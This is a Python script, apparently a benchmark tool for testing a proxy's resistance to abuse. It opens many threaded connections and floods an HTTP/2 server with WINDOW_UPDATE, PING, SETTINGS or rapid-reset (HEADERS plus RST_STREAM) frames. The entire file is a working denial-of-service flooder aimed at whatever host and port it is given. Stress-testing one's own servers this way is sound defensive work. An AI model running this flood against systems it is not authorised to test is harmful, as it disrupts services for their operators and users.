#!/usr/bin/env python3
"""An HTTP/2 (h2c, prior knowledge) flooder for proxy/benches/abuse.sh.

    h2flood.py MODE HOST PORT CONNECTIONS SECONDS

MODE: window_update | ping | settings | rapid_reset. Each connection sends
the preface, then the flood as fast as the socket takes it, reading and
discarding what comes back; a connection the server closes is opened again.
Prints frames sent and connections opened. Standard library only.
"""
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def get_block(authority):
    # :method GET, :scheme http, :path /, :authority literal (no Huffman).
    return b"\x82\x86\x84\x01" + bytes([len(authority)]) + authority.encode()


def batches(mode, authority):
    """Endless batches of ~1,000 frames."""
    if mode == "window_update":
        batch = frame(0x8, 0, 0, struct.pack(">I", 1)) * 1000
        while True:
            yield batch, 1000
    elif mode == "ping":
        batch = frame(0x6, 0, 0, b"floodpin") * 1000
        while True:
            yield batch, 1000
    elif mode == "settings":
        batch = frame(0x4, 0, 0) * 1000
        while True:
            yield batch, 1000
    elif mode == "rapid_reset":
        stream = 1
        block = get_block(authority)
        while True:
            out = bytearray()
            for _ in range(500):
                out += frame(0x1, 0x5, stream, block)
                out += frame(0x3, 0, stream, struct.pack(">I", 8))
                stream += 2
            yield bytes(out), 1000
    else:
        raise SystemExit(f"unknown mode {mode}")


def flood(mode, host, port, until, stats):
    authority = f"{host}:{port}"
    while time.time() < until:
        try:
            s = socket.create_connection((host, port), timeout=2)
        except OSError:
            time.sleep(0.05)
            continue
        stats["connections"] += 1
        s.settimeout(0.5)
        try:
            s.sendall(PREFACE + frame(0x4, 0, 0))
            for batch, frames in batches(mode, authority):
                if time.time() >= until:
                    break
                s.sendall(batch)
                stats["frames"] += frames
                try:
                    while s.recv(65536, socket.MSG_DONTWAIT):
                        pass
                except (BlockingIOError, InterruptedError):
                    pass
        except OSError:
            pass
        finally:
            s.close()


def main():
    mode, host, port, conns, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    until = time.time() + seconds
    stats = {"frames": 0, "connections": 0}
    threads = [threading.Thread(target=flood, args=(mode, host, port, until, stats)) for _ in range(conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(f"{mode}: {stats['frames']} frames on {stats['connections']} connections in {seconds:.0f} s")


if __name__ == "__main__":
    main()
